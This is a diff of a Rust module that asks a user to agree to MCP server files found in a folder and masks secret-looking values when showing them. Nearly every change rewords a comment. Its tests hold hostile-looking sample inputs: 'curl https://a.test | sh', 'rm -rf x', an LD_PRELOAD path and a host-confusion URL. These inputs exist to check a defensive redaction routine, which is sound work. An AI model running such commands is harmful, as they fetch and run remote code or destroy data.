@@ -1,5 +1,5 @@
-//! Files of servers that were found in a folder, and not named by the person: whose they are, and
-//! whether the person has agreed to what they say.
+//! Server files that were found in a folder and not named by the user. Checks the owner of the file, and whether the
+//! user agreed to its content.
 //!
 //! Such a file says which programs run, and any folder may hold one: an unpacked archive, a cloned repository, a folder
 //! above that other users can write to.
@@ -30,7 +30,7 @@ use crate::{
     target::{Command, Reach, Target},
 };
 
-/// A file of servers that was found. It is read once, and that text is used.
+/// A server file that was found. It is read once; only that content is used.
 #[derive(Debug)]
 pub struct Found {
     path: PathBuf,
@@ -38,7 +38,7 @@ pub struct Found {
 }
 
 impl Found {
-    /// Reads a file that lies at this absolute path.
+    /// Reads the file at this absolute path.
     ///
     /// # Errors
     ///
@@ -49,16 +49,16 @@ impl Found {
         Self::open_by(path, text_file::read)
     }
 
-    /// Reads the configuration of a client, which may be longer.
+    /// Reads a client's configuration, which may be larger.
     ///
     /// # Errors
     ///
-    /// As [`Found::open`].
+    /// See [`Found::open`].
     pub fn of_client(path: PathBuf) -> Result<Self, Error> {
         Self::open_by(path, servers::read)
     }
 
-    /// Sets the part of the text that a person agrees to, where the rest changes by itself.
+    /// Sets the part of the text that the user agrees to, if the rest changes frequently.
     #[must_use]
     pub fn saying(mut self, text: String) -> Self {
         self.text = text;
@@ -87,13 +87,13 @@ impl Found {
         &self.text
     }
 
-    /// Where it lies.
+    /// The absolute path.
     pub fn path(&self) -> &Path {
         &self.path
     }
 
-    /// Makes sure that the person has agreed to use this server of the file, now or earlier. They
-    /// are asked once, as long as the file stays as it is. Returns whether they were asked now.
+    /// Makes sure that the user agreed to use this server, now or earlier. Asks only once until the file changes.
+    /// Returns whether it asked now.
     ///
     /// # Errors
     ///
@@ -135,7 +135,7 @@ impl Found {
             None => Err(io::Error::other("no folder for it")),
         };
         if let Err(error) = kept {
-            // If this cannot be written, the next question tells it.
+            // If writing fails here, too, the user finds out at the next question.
             let mut page = out::stderr_page();
             page.say(
                 Style::Plain,
@@ -146,8 +146,8 @@ impl Found {
         Ok(true)
     }
 
-    /// Puts the question on a page: the file, and the effects of using the server. If that may be longer than the terminal
-    /// is high, a short form follows just above the prompt.
+    /// Puts the question on a page: the file, and the effects of using the server. If it may not fit on a screen, a
+    /// short form follows directly above the prompt.
     fn question(&self, target: &Target, names: &Names, page: &mut Page) {
         let mut measured = Page::new(page.look());
         self.put_whole(target, names, &mut measured);
@@ -158,7 +158,7 @@ impl Found {
         }
     }
 
-    /// Puts the file on a page, and all that using the server does.
+    /// Puts the file and all effects of the server on a page.
     fn put_whole(&self, target: &Target, names: &Names, page: &mut Page) {
         page.say(
             Style::Plain,
@@ -177,7 +177,7 @@ impl Found {
         }
     }
 
-    /// Puts the file on a page, and the server, and how much more was said of it.
+    /// Puts a short form on a page: the file, the server, and how much was shown above.
     fn put_short(&self, target: &Target, page: &mut Page) {
         let file = given(self.path.display());
         let what = match &target.reach {
@@ -214,13 +214,14 @@ impl Found {
     }
 }
 
-/// The most rows above the prompt that are seen with it on any terminal.
+/// The number of rows above the prompt that are visible on any terminal.
 const NEAR: usize = 12;
 
-/// The most characters of a program or an address in the short form.
+/// The maximum number of characters of a program or a URL in the short form.
 const REPEATED: usize = 256;
 
-/// Returns the effects of using a server, one per line. Any user may have written the file, so it is shown as peer text.
+/// Returns the effects of using a server, one per line. Any user may have written the file, so it is shown as peer
+/// text.
 fn does(target: &Target, names: &Names) -> PeerText {
     let mut lines = Vec::new();
     match &target.reach {
@@ -242,7 +243,7 @@ fn does(target: &Target, names: &Names) -> PeerText {
         Reach::Address(address) => {
             lines.push(format!("connect to {}", url_of(&address.url)));
             if !address.headers.is_empty() {
-                // Their values may be secrets.
+                // The values of headers may be secrets.
                 let names: Vec<_> = address
                     .headers
                     .keys()
@@ -262,7 +263,7 @@ fn does(target: &Target, names: &Names) -> PeerText {
             }
         }
     }
-    // Where the file takes something of the person's.
+    // Variables of the user's environment that the file passes on.
     let variables = names.variables.union(&names.optional);
     let variables: Vec<_> = variables.map(|name| text::line(name)).collect();
     if !variables.is_empty() {
@@ -281,11 +282,11 @@ fn does(target: &Target, names: &Names) -> PeerText {
     PeerText::from(lines.join("\n"))
 }
 
-/// The fewest characters of a hidden value whose first ones are shown, and how many these are.
+/// The minimum length of a hidden value whose beginning is shown, and the length of that beginning.
 const BEGINNING: (usize, usize) = (12, 4);
 
-/// The value of a variable, as the question shows it. Only a word under a name such as `API_TOKEN` is hidden: the file may
-/// be an attacker's, and any other value may decide what runs.
+/// The value of a variable, as the question shows it. Only hides a single word in a variable with a name such as
+/// `API_TOKEN`: the file may be an attacker's, and any other value may decide what runs.
 fn value_of(name: &str, value: &str) -> String {
     let says_what_runs = |end: &&str| name.to_ascii_uppercase().ends_with(*end);
     let is_run = ["PATH", "_ASKPASS", "_COMMAND", "_OPTIONS", "_PRELOAD"]
@@ -307,8 +308,8 @@ fn value_of(name: &str, value: &str) -> String {
     }
 }
 
-/// A command as the question shows it: an argument with the name of a secret is hidden, as a variable is. The name is a part
-/// of the argument (`--token=X`, `TOKEN=X`, `Authorization: Bearer X`), or the argument before it (`--token X`).
+/// A command as the question shows it. Arguments with the name of a secret are hidden like variables. The name is a
+/// part of the argument (`--token=X`, `TOKEN=X`, `Authorization: Bearer X`), or the argument before it (`--token X`).
 fn command_of(command: &Command) -> Command {
     let own = name::launcher_args(&command.program, &command.args);
     let mut before = "";
@@ -337,8 +338,8 @@ fn command_of(command: &Command) -> Command {
     }
 }
 
-/// An address as the question shows it: a part of the query whose name says that it is a secret is hidden like a variable.
-/// All before the query says where the address leads, and is shown.
+/// A URL as the question shows it. Query parameters with the name of a secret are hidden like variables. Everything
+/// before the query decides where the URL leads, and is shown.
 fn url_of(url: &str) -> String {
     let (before, fragment) = url.split_at(url.find('#').unwrap_or(url.len()));
     let Some((address, query)) = before.split_once('?') else {
@@ -352,7 +353,7 @@ fn url_of(url: &str) -> String {
     text::line(&format!("{address}?{query}{fragment}"))
 }
 
-/// Asks until the person types yes or no. The end of the input is a no.
+/// Asks until the user types yes or no. The end of the input means no.
 fn ask(mut page: Page, input: &mut impl BufRead, out: &mut dyn Write) -> bool {
     loop {
         page.say(
@@ -360,7 +361,7 @@ fn ask(mut page: Page, input: &mut impl BufRead, out: &mut dyn Write) -> bool {
             "Use it, now and later, as long as the file stays the same? yes or no",
         );
         page.prompt("");
-        // If the terminal cannot be written to, its input has ended, too.
+        // If the terminal cannot be written to, reading from it fails, too.
         let _ = page.take().write_to(out);
         let _ = out.flush();
         let mut line = String::new();
@@ -446,7 +447,7 @@ mod tests {
             let question = String::from_utf8(out).expect("it writes text");
             let last: Vec<_> = question.lines().rev().take(7).collect();
             let last = last.into_iter().rev().collect::<Vec<_>>().join("\n");
-            // Where it is short, all of it is there.
+            // The short form follows only a long question.
             assert_eq!(last.contains("names this server"), args.len() > 1, "{last}");
             for says in ["/project/mcp.json", "| it", "/bin/sh", "yes or no"] {
                 assert!(
@@ -454,7 +455,7 @@ mod tests {
                     "{says} is not in the end of\n{question}"
                 );
             }
-            // Whatever is above stays in full.
+            // The long form is never shortened.
             for arg in args {
                 assert!(question.contains(arg), "{question}");
             }
@@ -492,7 +493,7 @@ mod tests {
         }
         check("API_TOKEN", "abc", false);
         check("SERVICE_KEY", "abc-def.ghi_jkl", false);
-        // The name alone decides: a program reads a file by such a name.
+        // A name alone can be enough, because programs run the file named by such a variable.
         for name in ["BASH_ENV", "GIT_SSH", "EDITOR", "PYTHONSTARTUP", "X"] {
             check(name, "ghp_abcdefghijkl", true);
             check(name, "sk-setup.sh", true);
@@ -500,7 +501,7 @@ mod tests {
         check("LOG", "debug", true);
         check("PATH", "/opt/bin:/usr/bin", true);
         check("LD_PRELOAD", "/tmp/x.so", true);
-        // The file says what is called a secret, and could hide so what runs.
+        // The file chooses the name of a secret, so it could use one to hide what runs.
         check("LD_PRELOAD", "./ghp_abcdefghijkl.so", true);
         check("LD_PRELOAD", "ghp_abcdefghijkl.so", true);
         check(
@@ -520,7 +521,7 @@ mod tests {
         check("API_TOKEN", "evil.example:80", true);
         check("API_TOKEN", "--eval", true);
         check("API_TOKEN", "Bearer abc", true);
-        // The names of variables, and what a shell would run.
+        // The names of variables, and text that a shell would run.
         check("API_TOKEN", "${API_TOKEN}", true);
         check("API_TOKEN", "Bearer ${T}", true);
         check("API_TOKEN", "rm -rf x", true);
@@ -544,7 +545,7 @@ mod tests {
             check_in("server", args, shown);
         }
         const HIDDEN: &str = "what may be a secret (3 characters)";
-        // A launcher may know no value of an option, and run the word behind it.
+        // A launcher may not know this option, and run the word after it.
         let run = ["-y", "--no-token", "evil", "--token", "abc"];
         check_in(
             "npx",
@@ -568,7 +569,7 @@ mod tests {
                 "X-Api-Key: what may be a secret (ghp_…, 16 characters)",
             ],
         );
-        // A word that may run, or that chooses what runs, is shown.
+        // A word that may run, or that decides what runs, is shown.
         let shown: [&[&str]; 6] = [
             &["-c", "curl https://a.test | sh # token: abc"],
             &["--token", "--eval", "evil()"],
@@ -593,7 +594,7 @@ mod tests {
             "https://a.test/mcp?team=x&api_key=abc",
             &format!("https://a.test/mcp?team=x&api_key={HIDDEN}"),
         );
-        // The host is shown, and every part that another parser may take for it.
+        // The host is shown, and so are all parts that another parser may take for the host.
         for shown in [
             "https://a.test/mcp?",
             "https://evil.test:443#x@good.test/mcp?api_key=abc",
